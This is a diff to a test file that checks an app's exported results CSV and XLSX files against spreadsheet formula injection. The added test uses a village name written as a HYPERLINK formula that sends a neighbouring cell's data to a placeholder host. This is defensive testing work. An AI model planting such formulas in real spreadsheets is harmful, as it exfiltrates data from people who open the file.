@@ -5,7 +5,7 @@
 // changing nothing.
 import { afterEach, describe, expect, it } from 'vitest';
 import { makeTestApp, addUser, login, api, type TestEnv } from '../support/app';
-import { xlsxParts } from '../support/exports';
+import { publishedDecision, xlsxParts } from '../support/exports';
 import { parseCsv } from '../../server/services/spreadsheet/csv';
 import { readXlsx } from '../../server/services/spreadsheet/xlsx-read';
 
@@ -102,5 +102,25 @@ describe('formula injection in exported spreadsheets', () => {
     const back = await api(t, 'POST', '/api/v1/households/import', { cookie, headers: { 'content-type': XLSX }, body: bytes });
     expect(back.json).toEqual({ created: 0, updated: 0, unchanged: 3, rejected: 0, errors: [] });
     expect(await stored(cookie)).toEqual(before);
+  });
+
+  it('writes the results CSV and XLSX with a formula-like village name as text', async () => {
+    t = await makeTestApp();
+    const village = '=HYPERLINK("http://x.invalid/?d="&B2,"Thôn Đông Sơn")';
+    const id = await publishedDecision(t, [{ code: 'DS', name: village, households: 10, returned: 9, counts: [7, 1, 1] }]);
+
+    const csv = await t.app.request(`/api/v1/campaigns/${id}/results.csv`);
+    expect(csv.status).toBe(200);
+    const cells = parseCsv(await csv.text()).flatMap((r) => r.cells);
+    expect(cells.filter((c) => FORMULA_START.test(c))).toEqual([]);
+    expect(cells).toContain(`'${village}`);
+
+    const xlsx = await t.app.request(`/api/v1/campaigns/${id}/results.xlsx`);
+    expect(xlsx.status).toBe(200);
+    expect(xlsx.headers.get('content-type')).toBe(XLSX);
+    expect(xlsx.headers.get('content-disposition')).toMatch(/^attachment; filename="ket-qua-.*-v1\.xlsx"$/);
+    const bytes = new Uint8Array(await xlsx.arrayBuffer());
+    expect(formulaLikeCells(bytes)).toBe(3); // the village on each of its three option rows
+    expect(readXlsx(bytes)[0]!.rows[1]!.cells[1]).toBe(village);
   });
 });
